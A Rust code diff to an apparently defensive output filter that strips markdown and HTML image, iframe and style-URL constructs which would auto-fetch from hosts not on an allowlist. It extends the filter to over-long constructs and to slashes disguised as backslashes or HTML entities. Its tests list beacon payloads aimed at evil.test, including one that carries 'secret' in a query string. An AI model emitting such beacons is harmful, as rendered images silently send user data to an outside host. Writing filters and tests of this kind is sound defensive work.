@@ -6,14 +6,16 @@
 use crate::egress::host::{Host, split_port};
 use crate::egress::rule::HostRule;
 
-/// Most bytes held back. A construct that is longer and names a destination is treated as one that has closed.
+use super::long::Long;
+
+/// Most bytes held back. A construct that is longer passes, and its destination is judged when it comes.
 pub(super) const WINDOW: usize = 4096;
 
 /// What stands in place of removed markup.
-const REMOVED: &str = "[image removed by jess]";
+pub(super) const REMOVED: &str = "[image removed by jess]";
 
 /// HTML tags that load what they name.
-const TAGS: [&str; 13] = [
+pub(super) const TAGS: [&str; 13] = [
     "img", "image", "iframe", "script", "link", "video", "audio", "source", "embed", "object", "input",
     "svg", "style",
 ];
@@ -22,6 +24,8 @@ const TAGS: [&str; 13] = [
 #[derive(Default)]
 pub(super) struct Autofetch {
     held: String,
+    /// A construct that is longer than the window.
+    long: Option<Long>,
     /// What was found so far.
     pub found: u64,
 }
@@ -52,6 +56,33 @@ impl Autofetch {
         let text = std::mem::take(&mut self.held);
         let mut out = String::with_capacity(text.len());
         let mut rest = text.as_str();
+        loop {
+            if let Some(long) = &mut self.long {
+                let (taken, over) = long.push(rest, hosts, redact, &mut out, &mut self.found);
+                rest = rest.get(taken..).unwrap_or_default();
+                if !over {
+                    break;
+                }
+                self.long = None;
+            }
+            let Some(after) = self.one(rest, hosts, redact, ended, &mut out) else { break };
+            rest = after;
+        }
+        if ended && let Some(long) = self.long.take() {
+            long.finish(&mut out);
+        }
+        out
+    }
+
+    /// Passes the text up to the first construct, and that. `None`: all of `rest` was passed or is held.
+    fn one<'t>(
+        &mut self,
+        mut rest: &'t str,
+        hosts: &[HostRule],
+        redact: bool,
+        ended: bool,
+        out: &mut String,
+    ) -> Option<&'t str> {
         while let Some(at) = rest.find(['!', '<', '[']) {
             let (before, from) = rest.split_at(at);
             out.push_str(before);
@@ -62,8 +93,15 @@ impl Autofetch {
                 Construct::Whole(len, destination) => (len, destination),
                 Construct::Open if !ended && !too_long => {
                     self.held = from.to_owned();
-                    return out;
+                    return None;
                 }
+                Construct::Open if !ended => match Long::of(from) {
+                    Some(long) => {
+                        self.long = Some(long);
+                        return Some(from);
+                    }
+                    None => (0, String::new()),
+                },
                 Construct::Open if may_load(from) => (from.len(), String::new()),
                 Construct::Open | Construct::Nothing => (0, String::new()),
             };
@@ -83,7 +121,7 @@ impl Autofetch {
             rest = after;
         }
         out.push_str(rest);
-        out
+        None
     }
 }
 
@@ -157,7 +195,11 @@ fn tag(from: &str) -> Construct {
         None => Construct::Open,
         Some(end) if !TAGS.contains(&name.as_str()) && !has_style_url(from, end) => Construct::Nothing,
         Some(end) => {
-            let body = from.get(..end).unwrap_or_default();
+            // Browsers read a backslash in a URL as a slash.
+            let body = &from.get(..end).unwrap_or_default().replace('\\', "/");
+            if hides_slash(body) {
+                return Construct::Whole(end + 1, String::new());
+            }
             let at = body.find("//").map(|i| {
                 body.get(..i).unwrap_or_default().rfind(['"', '\'', '=', '(', ' ']).map_or(0, |q| q + 1)
             });
@@ -191,12 +233,24 @@ fn tag_end(from: &str) -> Option<usize> {
 
 /// Whether a construct that never closes could load something: a browser closes it at the end.
 fn may_load(from: &str) -> bool {
-    if !from.contains("//") {
+    if !from.replace('\\', "/").contains("//") && !hides_slash(from) {
         return false;
     }
     let Some(tag) = from.strip_prefix('<') else { return true };
     let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
     TAGS.contains(&name.to_ascii_lowercase().as_str()) || has_style_url(from, from.len())
+}
+
+/// Whether an entity stands for a slash or a backslash.
+fn hides_slash(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let is_slash = |after: &str| match after.strip_prefix('x') {
+        Some(hex) => ["2f", "5c"].iter().any(|n| hex.trim_start_matches('0').starts_with(n)),
+        None => ["47", "92"].iter().any(|n| after.trim_start_matches('0').starts_with(n)),
+    };
+    lower.contains("&sol")
+        || lower.contains("&bsol")
+        || lower.match_indices("&#").any(|(at, _)| lower.get(at + 2..).is_some_and(is_slash))
 }
 
 fn has_style_url(from: &str, end: usize) -> bool {
@@ -224,7 +278,7 @@ fn matching(text: &str, open: usize, up: u8, down: u8) -> Option<usize> {
 }
 
 /// Data and paths fetch nothing from elsewhere; a URL must be on the allowlist; nothing at all is not allowed.
-fn destination_is_allowed(destination: &str, hosts: &[HostRule]) -> bool {
+pub(super) fn destination_is_allowed(destination: &str, hosts: &[HostRule]) -> bool {
     let lower = destination.to_ascii_lowercase();
     let Some(at) = lower.replace('\\', "/").find("//") else {
         return !destination.is_empty() && !lower.contains("&#") && !lower.contains("&sol");
@@ -253,7 +307,10 @@ mod tests {
         (out, state.found)
     }
 
-    const BEACONS: [&str; 12] = [
+    const BEACONS: [&str; 15] = [
+        "<img src='https:\\\\evil.test/a'>",
+        "<img src=&#47;&#x2F;evil.test/a>",
+        "<p style='background:url(&sol;&sol;evil.test/a)'>",
         "![x](https://evil.test/?d=secret)",
         "![](//evil.test/a)",
         "![a [nested] b](<https://evil.test/a b>)",
@@ -294,6 +351,41 @@ mod tests {
             "# title\n- [ ] todo\n- [x] done",
         ] {
             assert_eq!(run(&[text]), (text.to_owned(), 0), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_beacon_that_is_longer_than_the_window_is_broken_all_the_same() {
+        let long = "a ".repeat(WINDOW);
+        for beacon in [
+            format!("<p {long} style=\"background:url(//evil.test/a)\">"),
+            format!("<p title='{long}' style='background:url(https:\\\\evil.test/a)'>"),
+            format!("<img alt=\"{long}\" src=\"https://evil.test/a\">"),
+            format!("<img {long} src=&#47;&#47;evil.test/a>"),
+            format!("![{long}](https://evil.test/a)"),
+            format!("![{long}](<https://evil.test/a> \"t\")"),
+        ] {
+            for size in [1, 7, 1000, beacon.len()] {
+                let bytes: Vec<&str> =
+                    beacon.as_bytes().chunks(size).map(|c| std::str::from_utf8(c).unwrap()).collect();
+                let (out, found) = run(&bytes);
+                let fetched =
+                    out.contains("//evil") || out.contains("\\\\evil") || out.contains("&#47;&#47;evil");
+                assert!(found >= 1 && !fetched, "{size}: {}", &out[out.len().saturating_sub(200)..]);
+            }
+        }
+    }
+
+    #[test]
+    fn long_text_that_fetches_nothing_elsewhere_passes_unchanged() {
+        let long = "1, // one\n".repeat(WINDOW);
+        for text in [
+            format!("vec![{long}]; ![{long}](docs/a.png) after"),
+            format!("![{long}](https://ok.example.org/a.png)"),
+            format!("if a <b {{ {long} }} after"),
+            format!("<p title=\"{long}\">text</p> // comment"),
+        ] {
+            assert_eq!(run(&[&text]), (text.clone(), 0));
         }
     }
 
